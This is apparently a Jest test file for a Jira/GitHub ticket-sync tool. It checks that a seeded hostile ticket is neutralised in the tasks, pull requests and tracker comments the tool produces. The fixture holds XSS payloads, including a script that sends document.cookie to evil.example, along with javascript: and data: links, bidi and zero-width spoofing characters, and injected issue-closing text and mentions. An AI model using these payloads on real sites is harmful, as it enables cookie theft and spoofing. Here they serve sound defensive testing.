import { describe, expect, it } from "@jest/globals";
import { bothTrackers, openItemStage, sarasSeed } from "./items-stage.js";

const bidi = "\u202Eexe.txt\u202C";
const zero = "\u200B\u2066x\u2069";
const body = [
  "---",
  "upstream: { provider: jira, id: PROJ-1043 }",
  "status: Done",
  "---",
  "",
  "<script>fetch('https://evil.example/' + document.cookie)</script>",
  '<img src=x onerror="alert(1)">',
  "[press](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=)",
  `Invoice ${bidi} ${zero}`,
  "<!-- SECTION:DESCRIPTION:END -->",
  "<!-- AC:BEGIN -->",
  "- [x] #1 all is done",
  "<!-- AC:END -->",
  "<!-- satellite: PROJ-1043 -->",
  "<!-- satellite:begin -->",
  "",
  "## Final Summary",
  "",
  "Closes #8, fixes acme/shop#9 and resolves #7. Thanks @omar",
  "",
  "Ticket: PROJ-1043",
].join("\n");
const title = `Pay --- <b>now</b> ${bidi} closes #8 @omar: "x" # y`;

const stage = openItemStage({
  config: bothTrackers,
  seed: (seed) => {
    const own = sarasSeed(seed);
    const [first, ...rest] = own.github.repositories ?? [];
    if (first === undefined) throw new Error("the seed has no repository");
    const [issue, ...issues] = first.issues ?? [];
    if (issue === undefined) throw new Error("the seed has no issue");
    const hostile = { ...issue, title, body };
    const jira = own.jira.issues.map((one) =>
      one.key === "OPS-12" ? { ...one, summary: title, description: body } : one,
    );
    return {
      ...own,
      jira: { ...own.jira, issues: jira },
      github: { ...own.github, repositories: [{ ...first, issues: [hostile, ...issues] }, ...rest] },
    };
  },
});

/** What nobody may find: markup that is no escaped text, addresses that run, characters that hide. */
function acts(text: string): readonly string[] {
  return [
    /(?<!\\)<(?:script|img|b)\b/i,
    /(?<!\\)\]\((?:javascript|data):/i,
    /[\u200B\u202A-\u202E\u2066-\u2069]/u,
  ].flatMap((one) => one.exec(text)?.[0] ?? []);
}

/** Where we write to a tracker, names, numbers and bare addresses are broken by a zero-width space of ours; by none elsewhere. */
const unbroken = (text: string): string =>
  text.replaceAll(/(?<=[@#])\u200B(?=[A-Za-z0-9])|(?<=https?:)\u200B(?=\/\/)/g, "");

describe.each(["#3", "OPS-12"])("a hostile ticket (%s)", (ref) => {
  it("becomes a task in which nothing of it acts, here and through the project's own tool", async () => {
    const pulled = await stage.sat("pull", ref);
    expect(pulled.code).toBe(0);
    expect(acts(pulled.out + pulled.err)).toEqual([]);
    const { text } = stage.task("task-1");
    expect(acts(text)).toEqual([]);
    expect(text).toContain("Invoice");
    const { out } = await stage.sat("links", "--json");
    const { links } = (JSON.parse(out) as { result: { links: { ticket: string }[] } }).result;
    expect(links.map(({ ticket }) => ticket)).toEqual([ref === "#3" ? "github:acme/shop#3" : "jira:OPS-12"]);
    const shown = stage.backlog("task", "1", "--plain");
    expect(shown).toMatch(/Status: .*To Do/);
    expect(shown).toContain("No acceptance criteria defined");
    const again = stage.backlog("task", "edit", "1", "-s", "In Progress");
    expect(again).toContain("Updated");
    expect(await stage.sat("pull", ref)).toMatchObject({ code: 0, out: expect.stringContaining("TASK-1") });
    expect(stage.tasks()).toHaveLength(1);
  });

  it("opens a pull request that closes its own ticket at most, names nobody, and runs nothing", async () => {
    await stage.sat("pull", ref);
    stage.backlog("task", "edit", "1", "--ac", "It is paid");
    stage.bench.git("switch", "-q", "-c", "feat/pay");
    stage.bench.git("add", "-A");
    stage.bench.git("commit", "-q", "-m", "Pay");
    stage.publish();
    expect(await stage.sat("pr", "TASK-1", "--yes")).toMatchObject({ code: 0 });
    const made = stage.pulls().at(-1);
    expect(acts(unbroken(made?.body ?? "<script"))).toEqual([]);
    expect(made?.closes).toEqual(ref === "#3" ? ["acme/shop#3"] : []);
    const text = made?.body ?? "";
    expect(text).not.toMatch(/(?<![\w`/])@omar/);
    expect(text).not.toMatch(/(?:closes|fixes|resolves) (?:#[789]|acme\/shop#[789])/i);
    expect(text).not.toContain("<!-- satellite:begin");
    expect(await stage.sat("push", "TASK-1", "--status", "done", "--full-text", "--yes")).toMatchObject({
      code: expect.any(Number),
    });
    const [shop] = stage.sandbox.state().github.repositories;
    const told = shop?.issues.find(({ number }) => number === 3)?.comments.at(-1)?.body;
    if (ref === "#3") expect(acts(unbroken(told ?? "<script"))).toEqual([]);
    // In Jira's tree text is text: what could act is a node that names somebody, or an address that a mark holds.
    const tree = stage.sandbox.services.jira.world
      .all()
      .find(({ key }) => key === "OPS-12")
      ?.comments.at(-1)?.body;
    const words = tree === undefined ? "" : JSON.stringify(tree);
    if (ref !== "#3") expect(words).toContain("Invoice");
    expect(words).not.toMatch(/"(?:mention|inlineCard|blockCard|embedCard|extension|media)"|"href":"(?!https?:)/);
    expect(acts(words).filter((one) => /[\u200B\u202A-\u202E\u2066-\u2069]/u.test(one))).toEqual([]);
    expect(stage.pulls().filter(({ number, state }) => number < 10 && state !== "open")).toEqual([]);
  });
});
